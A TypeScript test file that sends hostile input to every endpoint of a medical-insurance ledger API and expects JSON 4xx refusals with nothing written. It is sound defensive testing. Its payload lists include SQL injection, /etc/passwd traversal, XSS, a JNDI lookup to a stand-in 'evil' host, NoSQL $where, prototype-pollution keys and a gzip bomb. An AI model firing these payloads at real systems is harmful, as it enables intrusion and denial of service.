import { gzipSync } from 'node:zlib';
import request from 'supertest';
import { SqliteEventStore } from '@ledger/event-store';
import { AuthorizedClient, startTestLedger, TestLedger } from './ledger-app';
import { servedRoutes as servedRoutesOf } from '../../apps/ledger-api/src/bootstrap';
import { isWebRoute } from '../../apps/ledger-api/src/web/web-routes';
import { BODY_LIMIT_BYTES } from '../../apps/ledger-api/src/limits';
import { pick, seededRandom } from './support/facts';
import { eventsFile } from './support/store-checks';

/**
 * Issue 5 §6: hostile input. Malformed, oversized, wrongly typed, prototype-polluting and
 * injection-shaped bodies, query strings and path parameters, sent with valid tokens to every
 * endpoint, must each get a 4xx with a JSON body naming the reason — never a 5xx — and write
 * nothing; the process stays up.
 *
 * The command bodies are built on facts already recorded (the same business key with another
 * payload), so a body that survived validation would be a 409, never a new event: any append
 * would be a finding, not an accident of the fuzzing.
 */
const HOSTILE_STRINGS = [
  '',
  ' ',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '0x1F',
  '380.001',
  '-380.00',
  '99999999999999999999.99',
  '2024-02-30',
  '2024-1-1',
  "'; DROP TABLE events;--",
  "1' OR '1'='1",
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '\u202Eevil\u202C',
  'a\u200Bb',
  '\uFEFFbom',
  'ＲＥＳＩＤＥＮＴ',
  '居民医保',
  '😀😀😀',
  '\u0000',
  'line\nbreak',
  '\uD800',
  'x'.repeat(10_000),
];
const HOSTILE_VALUES: unknown[] = [
  ...HOSTILE_STRINGS,
  null,
  true,
  false,
  0,
  -1,
  1.5,
  380,
  2 ** 53 + 1,
  1e308,
  -1e308,
  [],
  ['a'],
  [{}],
  {},
  { $gt: '' },
  { $ne: null },
  { $where: 'sleep(1000)' },
  { toString: 'x' },
];
/**
 * Fields holding a business key. A hostile-looking string can still be a well-formed id ("NaN",
 * "2024-02-30" are fine receipt numbers): put there, it would name a new fact and be recorded, so
 * only values that are not identifiers are aimed at these fields.
 */
const KEY_FIELDS = new Set(['enrollmentId', 'receiptNo', 'subsidyId', 'changeId', 'claimId', 'reversalId', 'applicationId']);
const isIdentifierLike = (value: unknown) => typeof value === 'string' && value.length <= 64 && /^[A-Za-z0-9][A-Za-z0-9._:\-/]*$/.test(value);
const HOSTILE_FOR_KEYS = HOSTILE_VALUES.filter((value) => !isIdentifierLike(value));
const OPTIONAL_FIELDS = new Set(['hardship', 'parents', 'fundId', 'residentId', 'basicFundPayment', 'criticalIllnessPayment', 'assistancePayment']);
const jsonType = (value: unknown) => (value === null ? 'null' : Array.isArray(value) ? 'array' : typeof value);

/** encodeURIComponent, but a lone surrogate goes as the bytes it would be (not valid UTF-8). */
const enc = (value: string) => {
  try {
    return encodeURIComponent(value);
  } catch {
    return value.split('').map((c) => (/[\uD800-\uDFFF]/.test(c) ? '%ED%A0%80' : encodeURIComponent(c))).join('');
  }
};

describe('hostile input (issue 5 §6)', () => {
  let ledger: TestLedger;
  let clerk: AuthorizedClient;
  let bureau: AuthorizedClient;
  let clerkHeader: string;
  let eventsBefore: number;
  /** POST path → a body whose business key is already recorded with another payload (→ 409 if valid). */
  const commandBodies: Record<string, Record<string, unknown>> = {};

  async function storedEvents(): Promise<number> {
    const store = new SqliteEventStore({ file: eventsFile(ledger.dataDir) });
    const count = (store.database.prepare('SELECT count(*) AS n FROM events').get() as { n: number }).n;
    await store.close();
    return count;
  }

  beforeAll(async () => {
    ledger = await startTestLedger();
    clerk = await ledger.as('clerk');
    bureau = await ledger.as('finance-bureau');
    clerkHeader = `Bearer ${await ledger.token('clerk')}`;
    // Facts to aim at: a resident with a contribution, a scheme change, a claim with an insurer
    // decision and payment, a reversed claim and a reversed contribution, a subsidy.
    const enrollment = {
      enrollmentId: 'HOST-E1', residentId: 'HOST-R1', year: 2024, birthDate: '1980-05-01', category: 'adult',
      hukou: { local: true, district: 'huangpi' }, residenceDistrict: 'huangpi', hardship: ['dibao'], enrolledAt: '2023-11-15',
    };
    const contribution = { receiptNo: 'HOST-RC1', residentId: 'HOST-R1', year: 2024, amount: '380.00', paidAt: '2023-12-01', collector: 'self' };
    const reversedContribution = { ...contribution, receiptNo: 'HOST-RC2', amount: '10.00' };
    const subsidy = { subsidyId: 'HOST-S1', level: 'central', purpose: 'per-capita', year: 2024, amount: '1000.00', grantedAt: '2024-02-01', fundId: 'huangpi' };
    const schemeChange = { changeId: 'HOST-SC1', residentId: 'HOST-R1', to: 'employee', effectiveAt: '2024-09-01' };
    const claim = {
      claimId: 'HOST-C1', residentId: 'HOST-R1', careType: 'inpatient',
      institution: { id: 'H-1', level: 2, designated: false, district: 'huangpi' },
      admittedAt: '2024-03-01', dischargedAt: '2024-03-05', totalCost: '5000.00', compliantCost: '4000.00', settlement: 'cash-advance', filedAt: '2024-03-10',
      basicFundPayment: '2000.00', criticalIllnessPayment: '100.00', assistancePayment: '0.00',
    };
    const reversedClaim = { ...claim, claimId: 'HOST-C2' };
    const decision = { receivedAt: '2024-03-10', decidedAt: '2024-03-20', covered: true };
    const payment = { paidAt: '2024-03-25', amount: '100.00' };
    const reversal = { reversalId: 'HOST-REV1', reversedAt: '2024-04-01', reason: 'entered twice' };
    const contributionReversal = { reversalId: 'HOST-REV2', reversedAt: '2024-04-01', reason: 'bounced' };
    await clerk.post('/v1/enrollments', enrollment).expect(201);
    // Contributions are paid in full once (opinions-2017 §三): the reversed one comes first.
    await clerk.post('/v1/contributions', reversedContribution).expect(201);
    await clerk.post('/v1/contributions/HOST-RC2/reversal', contributionReversal).expect(201);
    await clerk.post('/v1/contributions', contribution).expect(201);
    await clerk.post('/v1/subsidies', subsidy).expect(201);
    await clerk.post('/v1/claims', claim).expect(201);
    await clerk.post('/v1/claims', reversedClaim).expect(201);
    await clerk.post('/v1/claims/HOST-C1/insurer-decision', decision).expect(201);
    await clerk.post('/v1/claims/HOST-C1/insurer-payment', payment).expect(201);
    await clerk.post('/v1/claims/HOST-C2/reversal', reversal).expect(201);
    await clerk.post('/v1/scheme-changes', schemeChange).expect(201);
    // An enrollment whose id is what a newborn enrolled as HOST-NB across the year boundary derives
    // for its second year (enrollment:HOST-NB:2025).
    await clerk.post('/v1/enrollments', { ...enrollment, enrollmentId: 'HOST-NB:2025', residentId: 'HOST-R2', year: 2025, enrolledAt: '2024-11-15' }).expect(201);

    // An illness-poverty target with a claim and a look-back grant on it.
    await clerk.post('/v1/enrollments', { ...enrollment, enrollmentId: 'HOST-E4', residentId: 'HOST-R4', hardship: ['illness-poverty'] }).expect(201);
    await clerk.post('/v1/claims', { ...claim, claimId: 'HOST-C4', residentId: 'HOST-R4' }).expect(201);
    const application = { applicationId: 'HOST-AA1', residentId: 'HOST-R4', appliedAt: '2024-06-01' };
    await clerk.post('/v1/assistance-applications', application).expect(201);

    commandBodies['/v1/enrollments'] = { ...enrollment, residenceDistrict: 'caidian' };
    commandBodies['/v1/assistance-applications'] = { ...application, appliedAt: '2024-06-02' };
    commandBodies['/v1/contributions'] = { ...contribution, amount: '381.00' };
    commandBodies['/v1/subsidies'] = { ...subsidy, amount: '1001.00' };
    commandBodies['/v1/scheme-changes'] = { ...schemeChange, effectiveAt: '2024-09-02' };
    commandBodies['/v1/claims'] = { ...claim, totalCost: '5001.00' };
    commandBodies['/v1/claims/HOST-C1/insurer-decision'] = { ...decision, decidedAt: '2024-03-21' };
    commandBodies['/v1/claims/HOST-C1/insurer-payment'] = { ...payment, amount: '99.00' };
    commandBodies['/v1/claims/HOST-C2/reversal'] = { ...reversal, reason: 'another reason' };
    commandBodies['/v1/contributions/HOST-RC2/reversal'] = { ...contributionReversal, reason: 'another reason' };
    // Sanity: each base body is valid and answered 409 (recorded with another payload), writing nothing.
    for (const [path, body] of Object.entries(commandBodies)) {
      const response = await clerk.post(path, body);
      expect({ path, status: response.status }).toEqual({ path, status: 409 });
    }
    eventsBefore = await storedEvents();
  });
  afterAll(async () => ledger?.close());

  /**
   * A refusal: 4xx, a problem+json body (status, title, detail a person can read, and for a 400
   * the fields at fault). Never a 5xx, never an HTML page.
   */
  function expectRefused(response: request.Response, what: string, status?: number | number[]) {
    const summary = { what, status: response.status, type: response.headers['content-type'], detail: typeof response.body?.detail };
    const statuses = status === undefined ? undefined : Array.isArray(status) ? status : [status];
    const ok =
      response.status >= 400 &&
      response.status < 500 &&
      (statuses === undefined || statuses.includes(response.status)) &&
      /^application\/problem\+json/.test(response.headers['content-type'] ?? '') &&
      response.body?.status === response.status &&
      typeof response.body?.title === 'string' &&
      typeof response.body?.detail === 'string' &&
      response.body.detail.length > 0 &&
      (response.status !== 400 || (Array.isArray(response.body?.problems) && response.body.problems.length > 0));
    if (!ok) throw new Error(`not a proper refusal: ${JSON.stringify(summary)} body=${String(response.text).slice(0, 300)}`);
  }

  const rawPost = (path: string, body: string | Buffer | undefined, contentType?: string) => {
    const test = ledger.http().post(path).set('Authorization', clerkHeader);
    if (contentType) test.set('Content-Type', contentType);
    return body === undefined ? test : test.send(body);
  };
  const POST_PATHS = () => Object.keys(commandBodies);
  const GET_PATHS = ['/v1/funds', '/v1/funds/huangpi', '/v1/funds/huangpi/statement', '/v1/residents/HOST-R1'];

  describe('bodies', () => {
    it('answers a body over the 64 kB limit with 413 and a JSON reason, on every command endpoint', async () => {
      for (const path of POST_PATHS()) {
        const oversized = JSON.stringify({ ...commandBodies[path], padding: 'x'.repeat(70 * 1024) });
        const response = await rawPost(path, oversized, 'application/json');
        expectRefused(response, `oversized ${path}`, 413);
        expect(response.body.message).toMatch(/limit|large/i);
      }
    });

    it('answers a gzip body that inflates past the limit with the same 413 reason, without naming its compressed size', async () => {
      const path = POST_PATHS()[0];
      const bomb = gzipSync(JSON.stringify({ ...commandBodies[path], padding: 'x'.repeat(200 * 1024) }));
      // As bytes: superagent would otherwise serialise a Buffer under a JSON content type as JSON.
      const response = await rawPost(path, undefined, 'application/json')
        .set('Content-Encoding', 'gzip')
        .serialize((bytes) => bytes)
        .send(bomb);
      expectRefused(response, 'inflated past the limit', 413);
      expect(response.body.message).toBe(`request body too large: more than ${BODY_LIMIT_BYTES} bytes; the limit is ${BODY_LIMIT_BYTES} bytes`);
    });

    it.each<[string, string | undefined, string | undefined, number | number[]]>([
      ['truncated JSON', '{"receiptNo":', 'application/json', 400],
      ['not JSON at all', 'hello', 'application/json', 400],
      ['NaN literal', '{"amount": NaN}', 'application/json', 400],
      ['Infinity literal', '{"year": Infinity}', 'application/json', 400],
      ['single quotes', "{'a': 1}", 'application/json', 400],
      ['trailing comma', '{"a": 1,}', 'application/json', 400],
      ['a JSON string', '"contribution"', 'application/json', 400],
      ['JSON null', 'null', 'application/json', 400],
      ['a JSON number', '42', 'application/json', 400],
      ['JSON true', 'true', 'application/json', 400],
      ['an empty array', '[]', 'application/json', 400],
      ['an empty JSON body', '', 'application/json', 400],
      ['no body and no content type', undefined, undefined, 400],
      ['an empty object', '{}', 'application/json', 400],
      ['binary garbage', '\u0000\u0001\u00ff\ufffd', 'application/json', 400],
      ['JSON sent as text/plain', '{"a":1}', 'text/plain', [400, 415]],
      ['a form', 'receiptNo=x&amount=1', 'application/x-www-form-urlencoded', [400, 415]],
      ['multipart', '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--b--', 'multipart/form-data; boundary=b', [400, 415]],
      ['XML', '<contribution><amount>1</amount></contribution>', 'application/xml', [400, 415]],
      ['an unsupported charset', '{"a":1}', 'application/json; charset=latin1', 415],
      ['a charset the bytes are not in', '{"a":1}', 'application/json; charset=utf-16', [400, 415]],
      ['a bogus content type', '{"a":1}', '../../etc/passwd', [400, 415]],
    ])('refuses %s on every command endpoint', async (_label, body, contentType, status) => {
      for (const path of POST_PATHS()) expectRefused(await rawPost(path, body, contentType), `${_label} ${path}`, status);
    });

    it('refuses array bodies, even an array holding a valid body', async () => {
      for (const path of POST_PATHS()) {
        const response = await rawPost(path, JSON.stringify([commandBodies[path]]), 'application/json');
        expectRefused(response, `array ${path}`, 400);
        expect(response.body.message).toContain('body');
      }
    });

    it('refuses JSON nested deeper than any command needs, without exhausting the stack', async () => {
      const depth = 30_000;
      for (const body of [`{"hardship":${'['.repeat(depth)}${']'.repeat(depth)}}`, `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`]) {
        for (const path of ['/v1/enrollments', '/v1/claims']) expectRefused(await rawPost(path, body, 'application/json'), `deep ${path}`, 400);
      }
    });

    it('refuses prototype-polluting keys at any depth, naming them, and pollutes nothing', async () => {
      const cases: Array<[string, (body: Record<string, unknown>) => string]> = [
        ['__proto__', (body) => JSON.stringify(body).replace(/^\{/, '{"__proto__":{"polluted":"yes"},')],
        ['constructor', (body) => JSON.stringify({ ...body, constructor: { prototype: { polluted: 'yes' } } })],
        ['prototype', (body) => JSON.stringify({ ...body, prototype: { polluted: 'yes' } })],
        ['nested __proto__', (body) => JSON.stringify(body).replace(/"(hukou|institution)":\{/, '"$1":{"__proto__":{"polluted":"yes"},').replace(/^\{"(?!.*"__proto__")/, '{"__proto__":{"polluted":"yes"},"')],
      ];
      for (const path of POST_PATHS()) {
        for (const [label, build] of cases) {
          const response = await rawPost(path, build(commandBodies[path]), 'application/json');
          expectRefused(response, `${label} ${path}`, 400);
          expect(response.body.message).toMatch(/__proto__|constructor|prototype/);
        }
      }
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect((Object.prototype as Record<string, unknown>).polluted).toBeUndefined();
    });

    it('refuses every wrongly typed, oversized, injection-shaped or exotic value in every field', async () => {
      let sent = 0;
      for (const path of POST_PATHS()) {
        const base = commandBodies[path];
        const fields = Object.entries(base).flatMap(([key, value]) =>
          value && typeof value === 'object' && !Array.isArray(value) ? [[key], ...Object.keys(value).map((inner) => [key, inner])] : [[key]],
        );
        for (const field of fields) {
          for (const hostile of KEY_FIELDS.has(field[field.length - 1]) ? HOSTILE_FOR_KEYS : HOSTILE_VALUES) {
            const body = structuredClone(base);
            let target = body as Record<string, unknown>;
            for (const key of field.slice(0, -1)) target = target[key] as Record<string, unknown>;
            target[field[field.length - 1]] = hostile;
            const response = await clerk.post(path, body);
            sent += 1;
            expectRefused(response, `${path} ${field.join('.')}=${JSON.stringify(hostile).slice(0, 40)}`);
            const original = field.reduce<unknown>((value, key) => (value as Record<string, unknown>)[key], base);
            // A value of another JSON type than the field's (an array where the hukou object goes, a
            // number where a string goes…) is malformed input: 400, whatever the field. null too,
            // except in optional fields, where it means "not given".
            const wrongType = hostile === null ? !OPTIONAL_FIELDS.has(field[field.length - 1]) : jsonType(hostile) !== jsonType(original);
            if (wrongType) expect({ path, field: field.join('.'), hostile, status: response.status }).toEqual({ path, field: field.join('.'), hostile, status: 400 });
          }
        }
      }
      expect(sent).toBeGreaterThan(1_000);
    }, 60_000);

    it('refuses arrays and primitives where a nested object goes (they used to be recorded, or crash)', async () => {
      const enrollment = commandBodies['/v1/enrollments'];
      const parent = { scheme: 'resident', insured: true, hukou: { local: true, district: 'huangpi' }, residenceDistrict: 'huangpi' };
      const cases: Array<[string, string, Record<string, unknown>, string]> = [
        ['hukou []', '/v1/enrollments', { ...enrollment, hukou: [] }, 'hukou'],
        ['hukou [valid]', '/v1/enrollments', { ...enrollment, hukou: [{ local: true, district: 'huangpi' }] }, 'hukou'],
        ['parents [[]]', '/v1/enrollments', { ...enrollment, parents: [[]] }, 'parents'],
        ['parents ["x"]', '/v1/enrollments', { ...enrollment, parents: ['x'] }, 'parents'],
        ['parent hukou []', '/v1/enrollments', { ...enrollment, parents: [{ ...parent, hukou: [] }] }, 'parents.0.hukou'],
        ['institution []', '/v1/claims', { ...commandBodies['/v1/claims'], institution: [] }, 'institution'],
        ['institution [valid]', '/v1/claims', { ...commandBodies['/v1/claims'], institution: [{ id: 'H-1', level: 2, designated: false, district: 'huangpi' }] }, 'institution'],
      ];
      for (const [label, path, body, field] of cases) {
        const response = await clerk.post(path, body);
        expectRefused(response, label, 400);
        expect(response.body.problems.map((p: { field: string }) => p.field)).toContain(field);
      }
    });

    it('answers a newborn whose derived second-year key another enrollment holds with 409, not a 5xx', async () => {
      const newborn = {
        enrollmentId: 'HOST-NB', residentId: 'HOST-R3', year: 2024, birthDate: '2024-12-10', category: 'newborn',
        hukou: { local: true, district: 'huangpi' }, residenceDistrict: 'huangpi', enrolledAt: '2025-01-05',
        parents: [{ scheme: 'resident', insured: true, hukou: { local: true, district: 'huangpi' }, residenceDistrict: 'huangpi' }],
      };
      const response = await clerk.post('/v1/enrollments', newborn);
      expectRefused(response, 'newborn with a held derived key', 409);
      expect(response.body.message).toContain('enrollment:HOST-NB:2025');
    });

    it('refuses a huge integer literal where a year goes', async () => {
      const body = JSON.stringify(commandBodies['/v1/contributions']).replace('"year":2024', '"year":123456789012345678901234567890');
      expectRefused(await rawPost('/v1/contributions', body, 'application/json'), 'huge year', 400);
    });
  });

  describe('query strings', () => {
    const hostileQueries = [
      'x=1',
      'asOf[]=2024-01-01',
      'asOf[$gt]=',
      'asOf=2024-01-01&asOf=2024-02-01',
      '__proto__[polluted]=yes',
      '__proto__=yes',
      'constructor[prototype][polluted]=yes',
      'constructor=x',
      `asOf=${enc("'; DROP TABLE events;--")}`,
      `asOf=${enc('../../etc/passwd')}`,
      `asOf=${enc('<script>alert(1)</script>')}`,
      `asOf=${'9'.repeat(10_000)}`,
      'asOf=2024-02-30',
      'asOf=%E0%A4%A',
      `asOf=${enc('2024-01-01\u200B')}`,
    ];

    it('refuses hostile query strings on the fund, statement and list endpoints', async () => {
      for (const query of hostileQueries) {
        expectRefused(await bureau.get(`/v1/funds/huangpi?${query}`), `fund ?${query.slice(0, 60)}`, 400);
        expectRefused(await bureau.get(`/v1/funds?${query}`), `funds ?${query.slice(0, 60)}`, 400);
        expectRefused(await bureau.get(`/v1/funds/huangpi/statement?from=2024-01-01&to=2024-12-31&${query}`), `statement &${query.slice(0, 60)}`, 400);
      }
      for (const value of HOSTILE_STRINGS) {
        const encoded = enc(value);
        expectRefused(await bureau.get(`/v1/funds/huangpi/statement?from=${encoded}&to=2024-12-31`), `statement from=${value.slice(0, 40)}`, 400);
        expectRefused(await bureau.get(`/v1/funds/huangpi/statement?from=2024-01-01&to=${encoded}`), `statement to=${value.slice(0, 40)}`, 400);
      }
      expectRefused(await bureau.get('/v1/funds/huangpi/statement'), 'statement without dates', 400);
      expectRefused(await bureau.get('/v1/funds/huangpi/statement?from=2024-12-31&to=2024-01-01'), 'statement backwards', 400);
    });

    it('refuses a statement range so long that answering it would be a denial of service', async () => {
      const started = Date.now();
      expectRefused(await bureau.get('/v1/funds/huangpi/statement?from=0100-01-01&to=9999-12-31'), 'statement of ten millennia', 400);
      expect(Date.now() - started).toBeLessThan(2_000);
    });

    it('accepts asOf on the fund list, and the same figures as the fund endpoint', async () => {
      const list = await bureau.get('/v1/funds?asOf=2024-02-15').expect(200);
      const fund = await bureau.get('/v1/funds/huangpi?asOf=2024-02-15').expect(200);
      expect(list.body.find((row: { fundId: string }) => row.fundId === 'huangpi').balance).toBe(fund.body.balance);
    });

    it('refuses any query string on endpoints that take none (resident view and every command)', async () => {
      for (const query of hostileQueries) {
        expectRefused(await bureau.get(`/v1/residents/HOST-R1?${query}`), `resident ?${query.slice(0, 60)}`, 400);
        for (const path of POST_PATHS()) expectRefused(await clerk.post(`${path}?${query}`, commandBodies[path]), `${path}?${query.slice(0, 60)}`, 400);
      }
    });
  });

  describe('path parameters', () => {
    const hostileIds = [...HOSTILE_STRINGS.filter((value) => value.trim() !== ''), '..', '.', 'a/../../b', 'HOST-R1\u0000', ' HOST-R1', 'HOST-R1 '];

    it('refuses hostile ids in every path parameter with 400 (malformed) or 404 (unknown), as JSON', async () => {
      for (const value of hostileIds) {
        const id = enc(value);
        expectRefused(await bureau.get(`/v1/residents/${id}`), `resident ${value.slice(0, 40)}`, [400, 404]);
        expectRefused(await bureau.get(`/v1/funds/${id}`), `fund ${value.slice(0, 40)}`, [400, 404]);
        expectRefused(await bureau.get(`/v1/funds/${id}/statement?from=2024-01-01&to=2024-12-31`), `statement of ${value.slice(0, 40)}`, [400, 404]);
        expectRefused(await clerk.post(`/v1/claims/${id}/insurer-decision`, commandBodies['/v1/claims/HOST-C1/insurer-decision']), `decision ${value.slice(0, 40)}`, [400, 404]);
        expectRefused(await clerk.post(`/v1/claims/${id}/insurer-payment`, commandBodies['/v1/claims/HOST-C1/insurer-payment']), `payment ${value.slice(0, 40)}`, [400, 404]);
        expectRefused(await clerk.post(`/v1/claims/${id}/reversal`, { reversalId: 'HOST-REV-NEW', reversedAt: '2024-04-01', reason: 'x' }), `claim reversal ${value.slice(0, 40)}`, [400, 404]);
        expectRefused(await clerk.post(`/v1/contributions/${id}/reversal`, { reversalId: 'HOST-REV-NEW', reversedAt: '2024-04-01', reason: 'x' }), `contribution reversal ${value.slice(0, 40)}`, [400, 404]);
      }
    });

    it('answers ids that are not identifiers at all with 400 naming the parameter', async () => {
      for (const value of ['../../etc/passwd', "'; DROP TABLE events;--", '<script>', '\u202Eevil', 'x'.repeat(65)]) {
        const id = enc(value);
        const resident = await bureau.get(`/v1/residents/${id}`);
        expectRefused(resident, `resident ${value.slice(0, 20)}`, 400);
        expect(resident.body.message).toContain('residentId');
        const decision = await clerk.post(`/v1/claims/${id}/insurer-decision`, commandBodies['/v1/claims/HOST-C1/insurer-decision']);
        expectRefused(decision, `decision ${value.slice(0, 20)}`, 400);
        expect(decision.body.message).toContain('claimId');
        const reversal = await clerk.post(`/v1/contributions/${id}/reversal`, { reversalId: 'HOST-REV-NEW', reversedAt: '2024-04-01', reason: 'x' });
        expectRefused(reversal, `reversal ${value.slice(0, 20)}`, 400);
        expect(reversal.body.message).toContain('receiptNo');
      }
    });

    it('answers malformed percent-encoding and raw traversal in the path as JSON 4xx', async () => {
      expectRefused(await bureau.get('/v1/residents/%E0%A4%A'), 'bad percent-encoding', 400);
      expectRefused(await bureau.get('/v1/funds/%'), 'lone percent', 400);
      expectRefused(await bureau.get('/v1/residents/../../../etc/passwd'), 'raw traversal', 404);
      expectRefused(await bureau.get('/v1/residents/..%2f..%2fetc%2fpasswd'), 'encoded traversal', [400, 404]);
    });
  });

  describe('seeded fuzz', () => {
    it('answers 400 cases built at random from the hostile values with a JSON 4xx, never a 5xx', async () => {
      const random = seededRandom(0x5eed);
      const hostileKey = () => pick(random, ['__proto__', 'constructor', 'prototype', '$gt', '$where', 'a'.repeat(300), '\u202E', '', ' ', '0', 'toString', 'hasOwnProperty']);
      const mutate = (value: unknown, depth = 0): unknown => {
        if (value && typeof value === 'object' && !Array.isArray(value) && depth < 2) {
          const copy = { ...(value as Record<string, unknown>) };
          const keys = Object.keys(copy);
          const roll = random();
          if (roll < 0.5 && keys.length) {
            const key = pick(random, keys);
            copy[key] = random() < 0.3 ? mutate(copy[key], depth + 1) : pick(random, KEY_FIELDS.has(key) ? HOSTILE_FOR_KEYS : HOSTILE_VALUES);
          } else if (roll < 0.7 && keys.length) delete copy[pick(random, keys)];
          else copy[hostileKey()] = pick(random, HOSTILE_VALUES);
          return copy;
        }
        return pick(random, HOSTILE_VALUES);
      };
      const statuses: Record<number, number> = {};
      for (let n = 0; n < 400; n += 1) {
        const roll = random();
        let response: request.Response;
        let what: string;
        if (roll < 0.6) {
          const path = pick(random, POST_PATHS());
          let body = commandBodies[path] as unknown;
          const mutations = 1 + Math.floor(random() * 3);
          for (let m = 0; m < mutations; m += 1) body = mutate(body);
          // A mutation may by chance rebuild a valid body (e.g. deleting an optional field): then
          // it is still the recorded key with another payload, a 409 — still nothing written.
          const text = random() < 0.1 ? JSON.stringify(body).slice(0, Math.floor(random() * 40)) : JSON.stringify(body);
          what = `POST ${path} ${text?.slice(0, 120)}`;
          response = await rawPost(path, text ?? 'undefined', 'application/json');
        } else if (roll < 0.8) {
          const path = pick(random, GET_PATHS);
          const key = random() < 0.5 ? pick(random, ['asOf', 'from', 'to']) : hostileKey();
          const value = pick(random, HOSTILE_STRINGS);
          const query = `${enc(key)}${random() < 0.2 ? '[]' : ''}=${enc(value)}`;
          what = `GET ${path}?${query.slice(0, 120)}`;
          response = await bureau.get(`${path}?${query}${path.endsWith('statement') && !/^(from|to)=/.test(query) ? '&from=2024-01-01' : ''}`);
        } else {
          const id = enc(pick(random, HOSTILE_STRINGS) || 'x y');
          const template = pick(random, [
            `/v1/residents/${id}`,
            `/v1/funds/${id}`,
            `/v1/funds/${id}/statement?from=2024-01-01&to=2024-02-01`,
            `POST /v1/claims/${id}/insurer-decision`,
            `POST /v1/claims/${id}/insurer-payment`,
            `POST /v1/claims/${id}/reversal`,
            `POST /v1/contributions/${id}/reversal`,
          ]);
          what = template.slice(0, 120);
          response = template.startsWith('POST ')
            ? await clerk.post(template.slice(5), { reversalId: 'HOST-REV-NEW', reversedAt: '2024-04-01', reason: 'x', receivedAt: '2024-03-10', decidedAt: '2024-03-20', covered: true })
            : await bureau.get(template);
        }
        statuses[response.status] = (statuses[response.status] ?? 0) + 1;
        expectRefused(response, what);
      }
      process.stdout.write(`hostile fuzz: 400 cases → ${JSON.stringify(statuses)}\n`);
    }, 60_000);
  });

  describe('every route the app serves', () => {
    /** The routes as the server registered them, so an endpoint added later is covered without editing this file. */
    const servedRoutes = () => servedRoutesOf(ledger.app);
    const ID_OF: Record<string, string> = { claimId: 'HOST-C1', receiptNo: 'HOST-RC2', residentId: 'HOST-R1', fundId: 'huangpi' };

    it('refuses generic hostile bodies and query strings on every route but /health, as JSON 4xx', async () => {
      const routes = servedRoutes();
      expect(routes).toEqual(expect.arrayContaining([...POST_PATHS().map((path) => ({ method: 'post', path: path.replace('HOST-C1', ':claimId').replace('HOST-C2', ':claimId').replace('HOST-RC2', ':receiptNo') })), { method: 'post', path: '/v1/audits' }, ...['/v1/funds', '/v1/funds/:fundId', '/v1/funds/:fundId/statement', '/v1/residents/:residentId', '/health'].map((path) => ({ method: 'get', path }))]));
      const auditor = `Bearer ${await ledger.token('auditor')}`;
      const bureauHeader = `Bearer ${await ledger.token('finance-bureau')}`;
      const deep = `{"a":${'['.repeat(20_000)}${']'.repeat(20_000)}}`;
      const bodies: Array<[string, string, string, number[]]> = [
        ['truncated JSON', '{"asOf":', 'application/json', [400]],
        ['an array', '[{}]', 'application/json', [400]],
        ['null', 'null', 'application/json', [400]],
        ['a string', '"x"', 'application/json', [400]],
        ['oversized', JSON.stringify({ a: 'x'.repeat(70 * 1024) }), 'application/json', [413]],
        ['__proto__', '{"__proto__":{"polluted":"yes"}}', 'application/json', [400]],
        ['constructor', '{"constructor":{"prototype":{"polluted":"yes"}}}', 'application/json', [400]],
        ['deep nesting', deep, 'application/json', [400]],
        ['text/plain', '{"asOf":"2024-12-31"}', 'text/plain', [415]],
      ];
      let checked = 0;
      for (const route of routes) {
        // Public, and no input: /health, and the documentation and console files (web-routes.ts).
        if (route.path === '/health' || isWebRoute(route.path)) continue;
        const path = route.path.replace(/:(\w+)/g, (_, name: string) => ID_OF[name] ?? 'x');
        // The finance bureau's own commands (period close, bank confirmations) are refused to clerks with 403 before any input is read.
        const bureauPosts = ['/v1/periods/:year/close', '/v1/bank-confirmations'];
        const header = route.path === '/v1/audits' ? auditor : route.method === 'post' && !bureauPosts.includes(route.path) ? clerkHeader : bureauHeader;
        if (route.method === 'post') {
          for (const [label, body, type, statuses] of bodies) {
            expectRefused(await ledger.http().post(path).set('Authorization', header).set('Content-Type', type).send(body), `${label} → POST ${path}`, statuses);
          }
          expectRefused(await ledger.http().post(`${path}?__proto__=x`).set('Authorization', header).send({}), `query → POST ${path}`, 400);
        } else {
          for (const query of ['x=1', '__proto__=1', 'constructor=1', 'toString=1', 'asOf[$gt]=', 'asOf=1&asOf=2']) {
            expectRefused(await ledger.http().get(`${path}?${query}`).set('Authorization', header), `GET ${path}?${query}`, 400);
          }
        }
        checked += 1;
      }
      expect(checked).toBeGreaterThanOrEqual(POST_PATHS().length + 5);
    });
  });

  it('is still up, and nothing was appended by any of it', async () => {
    await ledger.http().get('/health').expect(200, { status: 'ok' });
    expect(await storedEvents()).toBe(eventsBefore);
    await bureau.get('/v1/residents/HOST-R1').expect(200);
  });
});
